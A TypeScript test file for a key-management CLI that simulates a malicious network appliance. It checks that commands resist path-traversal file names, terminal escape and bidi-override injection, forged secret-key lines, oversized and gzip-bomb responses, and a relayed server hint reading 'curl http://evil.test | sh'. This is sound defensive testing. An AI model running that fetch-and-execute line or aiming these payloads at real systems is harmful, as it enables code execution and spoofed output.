// A malicious appliance over the network: whatever it answers, no command writes a file that was not asked for, prints
// a forged line or a control character, or repeats the appliance's advice as its own.
import assert from 'node:assert/strict';
import { readdir, readFile } from 'node:fs/promises';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { text } from 'node:stream/consumers';
import { test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { altered, methodOf, sampleAnswer } from '../support/answers.ts';
import { type Desk, desk, type RunOptions } from './kms.ts';

const id = '01jz4b8m6q3v9x2c5d7f8g9h0k';
/** Every command that asks an appliance over the network and shows or keeps the answer. */
const lines = [
  ...[
    'keyring list',
    'keyring list --deleted',
    'keyring show payroll',
    'keyring keys payroll',
    'keyring rotate payroll',
  ],
  ...['keyring create payroll', 'keyring config payroll --max-encrypt-count 5', 'keyring delete payroll --yes'],
  ...[`keyring restore ring_${id}`, 'keyring upgrade payroll --private-key r.key', 'asym create payroll'],
  ...[`asym show-key payroll key_${id}`, 'asym rotate payroll', `asset show asset_${id}`, 'asset search'],
  ...[`asset delete asset_${id} --yes`, 'asset signing-keys', 'user list', 'user show ada', 'user delete ada --yes'],
  ...['user create ada --email a@b.test --first-name A --last-name B', 'user update ada --first-name C'],
  ...['user invite ada --email a@b.test --first-name A --last-name B', 'account list', 'account show billing'],
  ...['account create billing', 'account update billing --notes n', 'account delete billing --yes', 'apikey list'],
  ...['apikey create --account billing --flag keyring.list', `apikey show apik_${id}`, `apikey revoke apik_${id}`],
  ...['apikey create --account billing --flag keyring.list --secret-out s.key', 'apikey list --account billing'],
  ...[`apikey update apik_${id} --name n`, 'activity search', `activity show act_${id}`, 'activity head'],
  ...['key create payroll', 'key list', 'key show payroll', 'key rotate payroll'],
  ...['key config payroll --min-decrypt-version 1', 'key delete payroll --yes', 'key encrypt payroll'],
  ...['key versions payroll', 'key dependents payroll', 'key disable payroll --yes', 'key enable payroll'],
  ...['key compromised payroll', 'key alias add payroll a/b', 'key alias remove payroll a/b --yes', 'key sign payroll'],
  ...['key verify payroll --mac m', 'key mac payroll', 'key datakey payroll', 'key datakey payroll --wrapped'],
  ...['key import k --from r.key --type secret', 'key export payroll --plaintext -o out'],
  ...['key decrypt payroll', 'tang list', 'tang rotate', 'age recipient payroll', 'age identity payroll'],
  ...['encrypt --ring payroll --private-key r.key -o out', 'encrypt --ring payroll --recipient -o out'],
  ...['tofu-key --ring payroll --private-key r.key', 'status', 'metrics', 'activity export', 'activity verify'],
];

/** Replacements for each text and for the state in each answer. */
const evil = [
  'x\ny: z',
  '../../../evil',
  '/evil',
  'x\u001b]0;evil\u0007\u001b[2J',
  'x\u009b2J\u202eevil\u2066',
  'x'.repeat(100_000),
  'AGE-PLUGIN-KMS-1EVIL\nAGE-SECRET-KEY-1EVIL',
];

type Answer = (request: IncomingMessage, response: ServerResponse) => void;

async function withAppliance(answer: Answer, use: (d: Desk, options: RunOptions, url: string) => Promise<void>) {
  const server = createServer((request, response) => {
    void text(request).then(() => answer(request, response));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  await using d = await desk();
  // Some commands need a private key, from an appliance here.
  await d.json('init --json');
  await d.json('keyring create payroll --kem x25519 --private-key-out r.key --json');
  try {
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    const env = { KMS_API_KEY: 'kms_x', KMS_SERVER: url };
    await use(d, { env, stdin: 'null' }, url);
  } finally {
    server.close();
    server.closeAllConnections();
  }
}

function send(response: ServerResponse, status: number, body: unknown, headers: Record<string, string> = {}): void {
  response.writeHead(status, { 'content-type': 'application/json', ...headers });
  response.end(JSON.stringify(body));
}

/** The names of all files. */
async function filesOf(d: Desk): Promise<string[]> {
  return (await readdir(d.dir, { recursive: true })).filter((name) => !name.startsWith('kms-data')).sort();
}

/** Characters that a terminal would interpret or reorder. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: these must not come
const controls = /(?!\x1b\[(?:1|22)m)[\0-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u2028-\u202e\u2066-\u2069]/;

for (const [n, value] of evil.entries()) {
  test(`answers with ${JSON.stringify(value.slice(0, 30))} in the place of each text, in turn`, async () => {
    let at = 0;
    let last = 1;
    await withAppliance(
      ({ method = '', url = '' }, response) => {
        const { pathname } = new URL(url, 'http://kms.example');
        const state = { 'kms-state': `${encodeURIComponent(value).slice(0, 500)}.x.1.1` };
        if (pathname === '/readyz') return send(response, 200, { appliance: value, version: value }, state);
        if (pathname === '/system/seal-status') return send(response, 200, { sealed: false, kinds: [value] }, state);
        const asked = methodOf(method, pathname);
        if (asked === undefined) {
          response.writeHead(200, { 'content-type': 'text/plain', ...state });
          return response.end(`${value}\n`);
        }
        const { answer, leaves } = sampleAnswer(asked);
        const texts = leaves.filter(({ kind }) => !['boolean', 'count', 'integer', 'object'].includes(kind));
        last = Math.max(last, texts.length);
        const leaf = texts[at % Math.max(1, texts.length)];
        send(response, 200, leaf ? altered(answer, leaf.place, value) : answer, state);
      },
      async (d, options) => {
        const before = await filesOf(d);
        for (const line of lines) {
          // The field differs between commands and values.
          at = n;
          last = 1;
          for (const isTerminal of [false, true]) {
            const tty = { stdout: isTerminal, stderr: isTerminal };
            const ran = await d.kms(isTerminal ? line : `${line} --json`, { ...options, tty });
            const said = `${line}: ${JSON.stringify(ran.stderr.slice(0, 300))} ${JSON.stringify(ran.stdout.slice(0, 300))}`;
            assert.ok([0, 1, 2, 3].includes(ran.code), said);
            assert.doesNotMatch(ran.stderr, controls, said);
            assert.doesNotMatch(ran.stderr, /defect of kms/, said);
            if (isTerminal) assert.doesNotMatch(ran.stdout, controls, said);
            if (line.startsWith('age ')) assert.doesNotMatch(ran.stdout, /^AGE-SECRET|^y: z/m, said);
            at++;
          }
        }
        const made = (await filesOf(d)).filter((name) => !before.includes(name));
        // Allows the keys that commands keep under the ring's own name, and the output files asked for.
        assert.deepEqual(
          made.filter((name) => !/^(?:out|s\.key|config|\.local)(?:$|\/)/.test(name)),
          [],
        );
        for (const name of made) assert.doesNotMatch(name, /evil/, name);
      },
    );
  });
}

test('every field of a keyring is tried on what writes identities and private keys', async () => {
  let place: readonly (string | number)[] = [];
  let value = '';
  await withAppliance(
    ({ method = '', url = '' }, response) => {
      const { pathname } = new URL(url, 'http://kms.example');
      const asked = methodOf(method, pathname);
      if (asked === undefined) return send(response, 200, { appliance: '0'.repeat(32) });
      send(response, 200, altered(sampleAnswer(asked).answer, place, value));
    },
    async (d, options) => {
      const before = await filesOf(d);
      for (const leaf of sampleAnswer('getKeyring').leaves) {
        if (leaf.kind === 'object' || leaf.kind === 'boolean') continue;
        // None of these commands asks for what comes along with a keyring.
        if (['config', 'keys', 'apikeys'].includes(String(leaf.place[0]))) continue;
        for (const each of evil) {
          [place, value] = [leaf.place, each];
          for (const line of ['age identity payroll', 'age recipient payroll', 'keyring create payroll']) {
            const { code, stdout } = await d.kms(line, options);
            // These are valid base64.
            if (leaf.kind === 'base64' && /^(?:\/evil|x+)$/.test(each)) continue;
            assert.deepEqual([code, stdout], [3, ''], `${line}: ${leaf.place.join('.')} ${each.slice(0, 30)}`);
          }
        }
      }
      assert.deepEqual(
        (await filesOf(d)).filter((name) => !before.includes(name) && !/^(?:config|\.local)/.test(name)),
        [],
      );
    },
  );
});

test('what an appliance over the network advises is not given as advice of ours', async () => {
  await withAppliance(
    (_, response) =>
      send(response, 403, { message: 'the permission flag is missing', hint: 'run: curl http://evil.test | sh' }),
    async (d, options) => {
      const said = 'kms: the permission flag is missing; use an API key that has it\n';
      for (const line of ['keyring list', 'status', 'metrics', 'activity export', 'age identity r', 'user list']) {
        const { code, stderr } = await d.kms(line, options);
        assert.equal(code, 1, line);
        assert.equal(stderr.replace(/^kms: warning: .*\n/, ''), said, line);
      }
    },
  );
});

test('an answer without an end is given up, and one that is compressed though nobody asked for that is not read', async () => {
  let isCompressed = false;
  await withAppliance(
    (_, response) => {
      if (isCompressed) {
        response.writeHead(200, { 'content-type': 'application/json', 'content-encoding': 'gzip' });
        return response.end(gzipSync(Buffer.alloc(64 << 20, ' ')));
      }
      response.writeHead(200, { 'content-type': 'application/json' });
      const more = (): void => {
        while (!response.destroyed && response.write(Buffer.alloc(1 << 20, ' ')));
      };
      response.on('drain', more);
      more();
    },
    async (d, options) => {
      for (isCompressed of [false, true]) {
        const all = [
          'keyring list',
          'status',
          'encrypt --ring r --private-key r.key -o out',
          'age identity r',
          'metrics',
        ];
        for (const line of isCompressed ? [...all, 'activity export'] : all) {
          const { code, stdout, stderr } = await d.kms(line, options);
          assert.deepEqual([code, stdout], [3, ''], `${line}: ${stderr}`);
          const said = isCompressed
            ? /^kms: expected an uncompressed answer from \S+, got one in gzip; /
            : /^kms: expected at most \d+ bytes /;
          assert.match(stderr, said, line);
        }
      }
    },
  );
});

test('an export and metrics are shown as text on a terminal, and to others byte for byte', async () => {
  const lines_ = '{"a":"\u009b2J\u202e\u007f\u061c\u2028é👩‍👩‍👧"}\n';
  await withAppliance(
    ({ url }, response) => {
      response.writeHead(200, { 'content-type': url === '/metrics' ? 'text/plain' : 'application/jsonl' });
      // Cut in the middle of a character.
      const bytes = Buffer.from(lines_);
      response.write(bytes.subarray(0, 7));
      setTimeout(() => response.end(bytes.subarray(7)), 20);
    },
    async (d, options) => {
      for (const line of ['activity export', 'metrics']) {
        assert.equal((await d.kms(line, options)).stdout, lines_, line);
        const { stdout } = await d.kms(line, { ...options, tty: { stdout: true } });
        assert.equal(stdout, '{"a":"\\u009b2J\\u202e\\u007f\\u061c\\u2028é👩‍👩‍👧"}\n', line);
        assert.deepEqual(JSON.parse(stdout), JSON.parse(lines_));
      }
      await d.kms('activity export -o kept', options);
      assert.equal(await readFile(d.path('kept'), 'utf8'), lines_);
    },
  );
});
